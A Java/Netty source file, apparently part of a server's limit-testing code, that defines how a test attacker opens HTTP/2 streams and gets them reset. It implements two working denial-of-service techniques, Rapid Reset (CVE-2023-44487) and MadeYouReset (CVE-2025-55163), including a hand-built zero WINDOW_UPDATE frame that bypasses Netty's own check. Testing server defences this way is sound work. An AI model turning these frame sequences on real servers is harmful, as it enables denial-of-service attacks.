package io.tickscope.server.limits;

import io.netty.buffer.ByteBuf;
import io.netty.channel.ChannelHandlerContext;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameTypes;
import io.netty.handler.codec.http2.Http2FrameWriter;
import io.netty.handler.codec.http2.Http2Headers;

/** How a {@link ResetFloodAttacker} opens a stream and gets it reset, so that the server did the work for nothing. */
enum ResetFlood {

    /** CVE-2023-44487: the client opens a call and cancels it at once. */
    RAPID_RESET {
        @Override
        void openAndReset(ChannelHandlerContext ctx, Http2FrameWriter writer, int streamId, Http2Headers headers) {
            writer.writeHeaders(ctx, streamId, headers, 0, false, ctx.newPromise());
            writer.writeRstStream(ctx, streamId, Http2Error.CANCEL.code(), ctx.newPromise());
        }
    },

    /**
     * CVE-2025-55163, "MadeYouReset": the client opens a call and then sends a frame that is a stream error, a
     * WINDOW_UPDATE of zero, so that the server resets the stream itself; a server that counts only the resets it
     * receives never sees one.
     */
    MADE_YOU_RESET {
        private static final int WINDOW_UPDATE_PAYLOAD_LENGTH = 4;

        @Override
        void openAndReset(ChannelHandlerContext ctx, Http2FrameWriter writer, int streamId, Http2Headers headers) {
            writer.writeHeaders(ctx, streamId, headers, 0, false, ctx.newPromise());
            // Written by hand: Netty's frame writer refuses an increment of zero, which is the whole point here.
            ByteBuf frame = ctx.alloc().buffer(9 + WINDOW_UPDATE_PAYLOAD_LENGTH);
            frame.writeMedium(WINDOW_UPDATE_PAYLOAD_LENGTH);
            frame.writeByte(Http2FrameTypes.WINDOW_UPDATE);
            frame.writeByte(0);
            frame.writeInt(streamId);
            frame.writeInt(0);
            ctx.write(frame, ctx.newPromise());
        }
    };

    /** Writes the frames that open stream {@code streamId} as a gRPC call of {@code headers} and get it reset. */
    abstract void openAndReset(ChannelHandlerContext ctx, Http2FrameWriter writer, int streamId, Http2Headers headers);
}
